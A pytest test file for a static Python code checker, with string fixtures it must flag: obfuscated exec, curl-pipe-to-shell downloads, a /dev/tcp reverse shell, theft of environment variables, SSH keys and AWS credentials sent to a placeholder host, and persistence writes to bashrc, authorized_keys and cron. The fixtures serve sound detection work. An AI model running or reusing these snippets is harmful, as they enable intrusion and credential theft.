"""What code does when it is imported, and what its functions can do, from the source alone."""

from __future__ import annotations

import ast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from verifier.formats._code.judge import judge
from verifier.formats._code.scopes import take_apart


def rules(source: str) -> set[str]:
    """The rules a source breaks."""
    return {seen.rule for seen in judge(take_apart(ast.parse(source))[0])}


IN_FUNCTION = "python-able-code"
HIDDEN = [
    "import base64\nexec(base64.b64decode('cGFzcw=='))",
    "import base64, zlib\ndef f():\n    d = zlib.decompress(base64.b64decode(X))\n    exec(compile(d, '', 'exec'))",
    "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()",
    "getattr(__import__('o' + 's'), 'system')('true')",
    "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "import os\ngetattr(os, 'metsys'[::-1])('true')",
    "import os\ngetattr(os, ''.join(['sy', 'stem']))('true')",
    "import os\ngetattr(os, chr(115) + 'ystem')('true')",
    "b = __builtins__\nf = getattr(b, 'ev' + 'al') if not isinstance(b, dict) else b['ev' + 'al']\nf('None')",
    "import sys\nsys.modules['o' + 's'].system('true')",
    "import os\nvars(os)['sys' + 'tem']('true')",
    "import os\nos.__dict__['sys' + 'tem']('true')",
    "import codecs\neval(codecs.decode('vzcbeg bf', 'rot13'))",
    "exec('cnff'.decode('rot13'))",
    "exec(bytes.fromhex('70617373'))",
    "exec((lambda x: bytes.fromhex(x))('70617373'))",
]
DOWNLOADS = [
    "import requests\nexec(requests.get('https://x').text)",
    "import urllib.request as u\ndef f():\n    code = u.urlopen('https://x').read()\n    eval(code)",
    "import urllib.request, os\nurllib.request.urlretrieve('https://x', '/tmp/x')\nos.system('/tmp/x')",
    "import requests, subprocess\nr = requests.get(U)\nwith open(P, 'wb') as f:\n  f.write(r)\nsubprocess.run([P])",
    "import requests, ctypes\nopen('x.so', 'wb').write(requests.get(U).content)\nctypes.CDLL('x.so')",
    "import os\nos.system('curl -s https://x | bash')",
    "import subprocess\ndef f():\n    subprocess.run('wget -qO- https://x | sudo sh', shell=True)",
    "import os\nos.system('powershell -nop -enc AAAA')",
    "import os\nos.system('bash -i >& /dev/tcp/127.0.0.1/9 0>&1')",
]
SECRETS = [
    "import os, requests\nrequests.post('https://x', json=dict(os.environ))",
    "import os, requests\ndef f():\n    data = os.environ.copy()\n    requests.post('https://x', data=data)",
    "import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x', data=k)",
    "import httpx, pathlib\nk = pathlib.Path('~/.aws/credentials').read_text()\nhttpx.get('https://x?' + k)",
]
ON_IMPORT = [
    "import os\nos.system('true')",
    "from os import system as s\ns('true')",
    "import os as o\nx = o.popen('true')",
    "__import__('os').system('true')",
    "import importlib\nimportlib.import_module('subprocess').Popen(['x'])",
    "import subprocess\nclass A:\n    subprocess.run(['x'])",
    "import subprocess\ndef f(x=subprocess.run(['x'])):\n    pass",
    "import os\n@os.system('x')\ndef f():\n    pass",
    "import os\ndef f():\n    os.system('x')\nf()",
    "import os\nclass A:\n    def __init__(self):\n        os.system('x')\nA()",
    "import os\nclass A:\n    def go(self):\n        os.system('x')\nA().go()",
    "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('x')\nclass B(A):\n    pass",
    "import os, threading\ndef f():\n    os.system('x')\nthreading.Thread(target=f).start()",
    "import os\ndef __getattr__(name):\n    os.system('x')",
    "import os\nf = lambda: os.system('x')\nf()",
    "import os\nif True:\n    os.system('x')\n",
    "try:\n    import os\n    os.system('x')\nexcept Exception:\n    pass",
    "eval('1')",
    "import os\ndef never():\n    import json as os\nos.system('x')",
    "import os\ngetattr(os, NAME)('x')",
    "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'https://x/y.whl'])",
    "import pty\npty.spawn('/bin/sh')",
    "import os\nlist(map(os.system, ['x']))",
    "from functools import partial\nimport os\npartial(os.system, 'x')()",
    "from detectron2.config import LazyCall as L\nimport os\nmodel = L(os.system)(command='x')",
    "import subprocess, threading\nthreading.Thread(target=subprocess.Popen, args=(['x'],)).start()",
    "@eval\n@str\nclass A:\n    pass",
    "@exec\ndef f():\n    pass",
]
REACHES = [
    "import requests\nrequests.get('https://x')",
    "import socket\nsocket.socket()",
    "import pickle\npickle.load(open('x', 'rb'))",
    "import ctypes\nctypes.CDLL('libx.so')",
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'einops'])",
    "import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])",
    "import os\nos.system('nvidia-smi')",
    "exec(open('version.py').read())",
    "import shutil\nshutil.rmtree('x')",
    "import torch\ntorch.load('x', weights_only=False)",
]
STARTUP = [
    "import os\ndef f():\n    open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
    "from pathlib import Path\nPath('/root/.ssh/authorized_keys').write_text('x')",
    "def f():\n    with open('/etc/cron.d/x', mode='w') as f:\n        f.write('x')",
]
QUIET = [
    "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        return x",
    "import re\nX = re.compile('a')",
    "model.eval()\nmodel.exec()\n",
    "import os\nos.environ['X'] = '1'\nos.makedirs('x', exist_ok=True)",
    "import logging\nlogger = logging.getLogger(__name__)",
    "import torch\nx = torch.load('x', weights_only=True)",
    "import base64\nX = base64.b64decode('eA==')",
    "import requests\nS = requests.Session()",
    "os = 1\nsystem('x')",
    "text = open('~/.bashrc').read()",
    "import subprocess\nx = isinstance(y, subprocess.Popen)",
    "import subprocess\nrun(x, stdout=subprocess.PIPE)",
    "import os\nprint(getattr(os, NAME))",
]
ABLE = [
    "import os\ndef f():\n    os.system('x')",
    "def f(x):\n    return eval(x)",
    "import torch\ndef f(x):\n    return torch.load(x)",
    "import os\ndef f():\n    map(os.system, X)",
    "import os\nif __name__ == '__main__':\n    os.system('x')",
    "import os, requests\ndef f():\n    return requests.get(U, headers={'Authorization': os.environ['TOKEN']})",
    "import os, requests\ndef f():\n    return requests.get(U, headers={'Authorization': os.environ.get('TOKEN')})",
    "import requests, subprocess\ndef f():\n  open(P, 'w').write(requests.get(U))\n  subprocess.run(['cp', 'x', P])",
]


@pytest.mark.parametrize(
    ("rule", "source"),
    [
        *(("python-hidden-code", source) for source in HIDDEN),
        *(("python-download-and-run", source) for source in DOWNLOADS),
        *(("python-sends-secrets", source) for source in SECRETS),
        *(("python-acts-on-import", source) for source in ON_IMPORT),
        *(("python-changes-startup", source) for source in STARTUP),
    ],
)
def test_what_attacks_do_is_told_by_its_rule(rule: str, source: str) -> None:
    assert rule in rules(source)


@pytest.mark.parametrize("source", REACHES)
def test_reaching_out_on_import_is_undecided(source: str) -> None:
    assert rules(source) == {"python-reaches-out-on-import"}


@pytest.mark.parametrize("source", ABLE)
def test_functions_that_could_are_a_note(source: str) -> None:
    assert rules(source) == {IN_FUNCTION}


@pytest.mark.parametrize("source", QUIET)
def test_ordinary_code_is_quiet(source: str) -> None:
    assert rules(source) == set()


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="abcdefgh_", min_size=1, max_size=8), st.integers(0, 3))
def test_names_do_not_hide_what_is_called(name: str, wrapped: int) -> None:
    source = f"import os as {name}_\n" + f"{name}_.system('x')\n"
    for depth in range(wrapped):
        source = f"def f{depth}():\n" + "".join(f"    {line}\n" for line in source.splitlines()) + f"f{depth}()\n"
    assert "python-acts-on-import" in rules(source)
